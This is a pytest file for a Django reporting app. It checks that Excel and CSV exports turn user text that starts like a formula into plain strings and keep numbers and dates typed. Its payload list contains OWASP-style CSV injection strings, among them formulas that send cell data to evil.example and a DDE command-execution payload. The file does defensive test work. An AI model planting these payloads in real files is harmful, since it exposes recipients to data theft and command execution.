"""User text in spreadsheets stays text (issue 15, point 1): a title, code, unit name or
note that starts like a formula is written as a neutralised string, in every workbook the
app produces, while numbers and dates stay numbers and dates."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl.cell.cell
import pytest
from django.conf import settings
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from reports.models import Report, ReportKind
from tasks_app import spreadsheets
from tasks_app.actions.greening import greening_recompute
from tasks_app.clock import LOCAL_TZ
from tasks_app.models import Plan, TaskStatus, Unit, UnitKind
from tasks_app.spreadsheets import PERCENT_FORMAT, Styled, WorkbookWriter, safe_text, write_csv
from tests.test_reports import WEEK, at, record

# OWASP's CSV injection examples, and one for each trigger character.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?d="&D2)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(text: str) -> str:
    return "'" + text


# --- The writer --------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_start_a_formula_gets_a_quote_in_front(payload):
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Số hóa hồ sơ đất đai", "125/KH-UBND", "a=b", "Q1 + Q2", "", "'=1"])
def test_other_text_is_left_as_it_is(text):
    assert safe_text(text) == text


def test_control_characters_are_removed_before_the_check():
    assert safe_text("Thiếu\x0bmáy\x0cquét\x00") == "Thiếumáyquét"
    assert safe_text("\x01=1") == "'=1"  # a stripped character cannot hide the "="
    assert safe_text("dòng 1\ndòng 2\tcột\r") == "dòng 1\ndòng 2\tcột\r"  # allowed in XML


def test_the_writer_strips_what_openpyxl_refuses():
    assert spreadsheets.ILLEGAL_CHARACTERS_RE.pattern == openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.pattern


def written(*rows) -> list:
    """The cells of `rows` as a workbook written by the writer reads them back."""
    book = WorkbookWriter()
    book.add_sheet("Thử", [("A", 10)] * max(len(row) for row in rows), rows)
    sheet = load_workbook(io.BytesIO(book.to_bytes())).worksheets[0]
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def test_a_workbook_holds_every_payload_as_text():
    (cells,) = written([*PAYLOADS, gettext_lazy("=1+1"), "Số hóa"])
    assert [c.data_type for c in cells] == ["s"] * len(cells)
    assert [c.value for c in cells] == [as_read_back("'" + p) for p in PAYLOADS] + ["'=1+1", "Số hóa"]


def test_numbers_and_dates_stay_numbers_and_dates():
    moment = datetime.datetime(2026, 11, 9, 1, 30, tzinfo=datetime.UTC)  # 08:30 in Vietnam
    (cells,) = written(
        [
            5,
            -3,
            -2.5,
            Decimal("-1.25"),
            0,
            Styled(-0.125, PERCENT_FORMAT),
            datetime.date(2026, 11, 9),
            moment,
            None,
        ]
    )
    assert [c.value for c in cells[:6]] == [5, -3, -2.5, -1.25, 0, -0.125]
    assert all(c.data_type == "n" for c in cells[:6])
    assert cells[5].number_format == PERCENT_FORMAT
    day, when, empty = cells[6:]
    assert day.is_date and day.value == datetime.datetime(2026, 11, 9) and day.number_format == "dd/mm/yyyy"
    local = timezone.localtime(moment, LOCAL_TZ).replace(tzinfo=None)
    assert when.is_date and when.value == local and when.number_format == "dd/mm/yyyy hh:mm"
    assert local.hour == 8
    assert empty.value is None


def test_a_number_excel_cannot_store_is_left_empty():
    (cells,) = written([float("nan"), float("inf"), 1.5])
    assert [c.value for c in cells] == [None, None, 1.5]


def test_a_value_that_is_not_text_a_number_or_a_date_is_refused():
    with pytest.raises(TypeError):
        spreadsheets.plain_value(object())


def test_the_header_and_colour_cells_keep_their_look():
    book = WorkbookWriter()
    book.add_sheet("Thử", [("=Tiêu đề", 10)], [[Styled("=Đỏ", colour="red")]])
    sheet = load_workbook(io.BytesIO(book.to_bytes())).worksheets[0]
    header, cell = sheet["A1"], sheet["A2"]
    assert header.value == "'=Tiêu đề" and header.font.b
    assert cell.value == "'=Đỏ" and cell.fill.fgColor.rgb == "FFD55E00"


def test_a_csv_file_holds_every_payload_as_quoted_text_and_numbers_as_numbers():
    stream = io.StringIO()
    moment = datetime.datetime(2026, 11, 9, 1, 30, tzinfo=datetime.UTC)
    write_csv(
        stream, [["Mã", "Số"], *([p, -3] for p in PAYLOADS), [datetime.date(2026, 11, 9), moment, None, -2.5]]
    )
    lines = stream.getvalue()
    assert "\"'=cmd|' /C calc'!A0\",-3" in lines  # text quoted, the number bare
    rows = list(csv.reader(io.StringIO(lines)))
    assert [row[0] for row in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert rows[-1] == ["2026-11-09", "2026-11-09 08:30", "", "-2.5"]


def test_only_the_writer_writes_spreadsheets():
    """Now and later: a module that writes a workbook or a CSV file for people does it
    through tasks_app.spreadsheets. The benchmark dataset's csv feeds PostgreSQL's COPY."""
    allowed = {Path("tasks_app/spreadsheets.py"), Path("nq57/devtools/benchmarks/dataset.py")}
    writer_import = re.compile(r"^\s*(from|import)\s+(openpyxl|csv|xlsxwriter|xlwt|pandas|tablib)\b", re.M)
    base = Path(settings.BASE_DIR)
    offenders = []
    for package in ("tasks_app", "reports", "nq57"):
        for path in (base / package).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            if path.relative_to(base) not in allowed and (
                writer_import.search(source) or "text/csv" in source
            ):
                offenders.append(str(path.relative_to(base)))
    assert offenders == []


# --- Every export, end to end -------------------------------------------------------------------


@pytest.fixture
def hostile_week(make_task, plan, commune, nghe_an, xa_officer):
    """Nghệ An's last finished week, where every text a user typed is a payload: the
    province's and its communes' names (set by administrators), and for each payload an
    overdue task whose code and title it is, which reported it as note and difficulty
    during the week (its commune's officer: the commune's last update), and a task of the
    same code and title completed during the week with it as the note. The week's
    figures are computed, as Monday's job would."""
    communes = list(
        Unit.objects.filter(parent=nghe_an, kind=UnitKind.COMMUNE).order_by("code")[: len(PAYLOADS)]
    )
    assert communes[0] == commune
    for unit, payload in zip(communes, PAYLOADS, strict=True):
        Unit.objects.filter(pk=unit.pk).update(name=payload)
    Unit.objects.filter(pk=nghe_an.pk).update(name=PAYLOADS[2])
    done_plan = Plan.objects.create(
        issuing_unit=nghe_an, code="2/KH", title="Kế hoạch hai", issue_date=datetime.date(2026, 1, 20)
    )
    start = WEEK.start - datetime.timedelta(days=60)
    in_week = WEEK.start + datetime.timedelta(days=2)
    for n, payload in enumerate(PAYLOADS):
        late = make_task(code=payload, title=payload, start_date=start, created_at=at(start),
                         deadline=WEEK.start - datetime.timedelta(days=10))  # fmt: skip
        record(late, start, TaskStatus.NOT_STARTED, 0)
        record(
            late, in_week, TaskStatus.IN_PROGRESS, 20, note=payload, difficulties=payload, author=xa_officer
        )
        done = make_task(plan=done_plan, code=payload, title=payload, start_date=start, created_at=at(start),
                         deadline=WEEK.end + datetime.timedelta(days=30))  # fmt: skip
        record(done, start, TaskStatus.NOT_STARTED, 0)
        record(done, in_week, TaskStatus.COMPLETED, 100, note=payload)
        # Each other commune has an overdue task with a difficulty in the week too, so its
        # name is in every list's unit column.
        if n:
            other = make_task(code=f"K-{n}", lead_unit=communes[n], start_date=start, created_at=at(start),
                              deadline=WEEK.start - datetime.timedelta(days=10))  # fmt: skip
            record(other, start, TaskStatus.NOT_STARTED, 0)
            record(other, in_week, TaskStatus.IN_PROGRESS, 5, difficulties="Thiếu kinh phí")
    greening_recompute(on=WEEK.end)
    return communes


def workbook(client, user, kind: str, unit: Unit):
    """The report's Excel file as a user downloads it."""
    report = Report.objects.create(kind=kind, unit=unit, period_start=WEEK.start)
    client.force_login(user)
    response = client.get(f"/reports/{report.pk}/xlsx/")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def column(sheet, index: int) -> list:
    return [row[index] for row in sheet.iter_rows(min_row=2, values_only=True)]


def as_read_back(text: str) -> str:
    """XML reads a carriage return in a cell's text as a line feed (end-of-line handling),
    in Excel as in openpyxl: "\r=1" comes back as "\n=1"."""
    return text.replace("\r", "\n")


def assert_no_formula_anywhere(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.coordinate, cell.value)


def assert_every_payload_neutralised_in(values: list, where: str) -> None:
    missing = [p for p in PAYLOADS if as_read_back(neutralised(p)) not in values]
    assert not missing, (where, missing)


def assert_lists_keep_user_text_as_text_and_figures_typed(book, *, unit_names: bool) -> None:
    bottlenecks, notes = book["Điểm nghẽn"], book["Trong tuần"]
    for index, name in ((1, "code"), (2, "title"), *([(3, "unit")] if unit_names else [])):
        assert_every_payload_neutralised_in(column(bottlenecks, index), f"bottlenecks {name}")
        assert_every_payload_neutralised_in(column(notes, index), f"notes {name}")
    assert_every_payload_neutralised_in(column(notes, 5), "notes text")
    # Deadlines and dates read back as dates; progress and days as numbers.
    assert all(isinstance(v, datetime.datetime) for v in column(bottlenecks, 5))
    assert all(isinstance(v, int) for v in column(bottlenecks, 6) + column(bottlenecks, 7))
    assert all(isinstance(v, datetime.datetime) for v in column(notes, 4))


def test_the_province_workbook_keeps_every_users_text_as_text(hostile_week, client, tinh_leader, nghe_an):
    book = workbook(client, tinh_leader, ReportKind.PROVINCE_WEEKLY, nghe_an)
    assert_no_formula_anywhere(book)
    assert_lists_keep_user_text_as_text_and_figures_typed(book, unit_names=True)
    ranking = book["Các xã"]
    assert_every_payload_neutralised_in(column(ranking, 1), "ranking commune")
    ranked = [row for row in ranking.iter_rows(min_row=2, values_only=True) if row[0] is not None]
    assert ranked  # the communes with counted tasks: rank and rate as numbers
    assert all(isinstance(row[0], int) and isinstance(row[3], int | float) for row in ranked)
    assert any(isinstance(v, datetime.datetime) for v in column(ranking, 6))  # last update
    figures = dict(book["Số liệu chính"].iter_rows(min_row=2, values_only=True))
    assert figures["Đơn vị"] == neutralised(PAYLOADS[2])
    assert isinstance(figures["Tỷ lệ"], int | float)


def test_the_national_workbook_keeps_every_users_text_as_text(hostile_week, client, central_viewer, root):
    book = workbook(client, central_viewer, ReportKind.NATIONAL_WEEKLY, root)
    assert_no_formula_anywhere(book)
    assert_lists_keep_user_text_as_text_and_figures_typed(book, unit_names=True)
    provinces = column(book["Các tỉnh, thành phố"], 1)
    assert neutralised(PAYLOADS[2]) in provinces


def test_the_commune_workbook_keeps_every_users_text_as_text(hostile_week, client, tinh_leader, commune):
    book = workbook(client, tinh_leader, ReportKind.COMMUNE_SUMMARY, commune)
    assert_no_formula_anywhere(book)
    # One commune's lists: its own name in every unit cell.
    assert_lists_keep_user_text_as_text_and_figures_typed(book, unit_names=False)
    assert set(column(book["Điểm nghẽn"], 3)) == {neutralised(PAYLOADS[0])}


def test_control_characters_in_user_text_do_not_break_the_export(make_task, client, tinh_leader, commune):
    # Text pasted from a PDF or Word can carry a form feed or a vertical tab, which XML
    # (and so openpyxl) refuses: the export leaves them out instead of failing.
    start = WEEK.start - datetime.timedelta(days=60)
    task = make_task(code="QH-\x0c1", title="Số hóa\x0bhồ sơ", start_date=start, created_at=at(start),
                     deadline=WEEK.start - datetime.timedelta(days=10))  # fmt: skip
    record(task, start, TaskStatus.NOT_STARTED, 0)
    record(
        task, WEEK.start + datetime.timedelta(days=2), TaskStatus.IN_PROGRESS, 10, difficulties="\x01=SUM(1)"
    )
    greening_recompute(on=WEEK.end)
    book = workbook(client, tinh_leader, ReportKind.COMMUNE_SUMMARY, commune)
    assert_no_formula_anywhere(book)
    (row,) = book["Trong tuần"].iter_rows(min_row=2, values_only=True)
    assert (row[1], row[2], row[5]) == ("QH-1", "Số hóahồ sơ", "'=SUM(1)")
